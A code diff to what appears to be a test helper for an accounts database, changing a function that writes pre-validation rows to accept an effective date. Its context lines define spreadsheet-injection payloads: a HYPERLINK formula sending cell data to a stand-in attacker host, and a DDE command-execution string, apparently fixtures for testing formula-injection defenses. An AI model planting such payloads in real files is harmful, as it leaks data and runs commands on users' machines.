@@ -25,13 +25,13 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"点击查看")'
 DDE = "+cmd|' /C calc'!A0"
 
 
-def store_before_the_fix(db: Database, account: str, **fields: str) -> None:
-    """File an update of `account` to these field values, effective 2026-07-01, and set its current
+def store_before_the_fix(db: Database, account: str, effective: date = date(2026, 7, 1), **fields: str) -> None:
+    """File an update of `account` to these field values, effective `effective`, and set its current
     state: rows as they were stored before entry validation refused such values (written
     straight into the tables, past today's validation)."""
     with db.write() as session:
-        session.add(FilingEventRow(account=account, kind="update", effective_on=date(2026, 7, 1),
-                                   recorded_at=datetime(2026, 7, 1, tzinfo=UTC), by="before-the-fix", payload=fields))
+        session.add(FilingEventRow(account=account, kind="update", effective_on=effective,
+                                   recorded_at=datetime.now(UTC), by="before-the-fix", payload=fields))
         row = session.execute(select(Account).where(Account.account == account)).scalar_one()
         for name, value in fields.items():
             setattr(row, name, value)
